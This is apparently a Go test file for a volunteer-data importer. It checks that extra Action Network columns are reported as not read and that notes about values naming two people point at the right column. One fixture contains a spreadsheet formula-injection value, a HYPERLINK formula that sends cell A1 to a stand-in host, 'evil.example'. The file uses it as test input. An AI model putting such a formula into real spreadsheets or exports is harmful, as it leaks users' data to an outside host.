package importer_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/chapterdesk/chapterdesk/importer"
)

// TestActionNetworkExtraColumnsAreNotRead: an Action Network report's custom
// questions come as extra columns under their own titles; they were dropped without
// a word, where a plain spreadsheet lists the same columns as not read (tester t3's
// F4). The report's own columns (can2_…) left on purpose are not listed.
func TestActionNetworkExtraColumnsAreNotRead(t *testing.T) {
	report := "uuid,first_name,last_name,email,zip_code,can2_user_city,can2_user_state,can2_phone,can2_user_tags,can2_user_county,What language do you speak at home?,Can you host a house party?\n" +
		"action_network:cc,Thảo,Nguyễn,thao@example.org,02124,Dorchester,MA,617-555-7001,\"SCA, Vietnamese\",Suffolk,Tiếng Việt,Yes\n"
	in, err := importer.ReadVolunteers(strings.NewReader(report), "")
	if err != nil || len(in.Rows) != 1 {
		t.Fatalf("%v, %d rows", err, len(in.Rows))
	}
	if in.Format.ID != "actionnetwork" {
		t.Fatalf("read as %s", in.Format.ID)
	}
	if want := []string{"What language do you speak at home?", "Can you host a house party?"}; !slices.Equal(in.NotRead, want) {
		t.Errorf("not read: %q; want %q", in.NotRead, want)
	}
}

// TestTwoPeopleNoteNamesTheirColumn: a sign of two people in the family-name column
// (the & of "Jones & Smith", or of a spreadsheet formula) was said of the first-name
// column, "Evil" (tester t3's F9): the note names the column that has it.
func TestTwoPeopleNoteNamesTheirColumn(t *testing.T) {
	sheet := "First Name,Last Name,Email\n" +
		"Evil,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",evil@example.org\n" +
		"Bob & Linda,Jones,jones@example.org\n"
	in, err := importer.ReadVolunteers(strings.NewReader(sheet), "")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, n := range in.ValueNotes {
		if strings.Contains(n.Why, "may be two people") {
			got = append(got, fmt.Sprintf("%d:%d:%s:%s", n.Line, n.Column, n.Name, n.Value))
		}
	}
	want := []string{`2:2:Last Name:=HYPERLINK("http://evil.example/?"&A1,"click")`, "3:1:First Name:Bob & Linda"}
	if !slices.Equal(got, want) {
		t.Errorf("two-people notes %q; want %q", got, want)
	}
}
